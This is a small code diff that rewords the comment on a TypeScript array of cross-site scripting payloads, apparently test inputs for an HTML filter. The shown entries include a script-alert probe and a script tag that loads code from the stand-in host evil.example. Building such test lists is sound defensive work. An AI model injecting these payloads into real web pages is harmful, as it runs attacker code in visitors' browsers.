@@ -1,4 +1,4 @@
-/** Ways in which markup has been made to run scripts, as they are known from filters that let them pass. */
+/** Known ways to make markup run scripts, from bypasses of other filters. */
 export const payloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
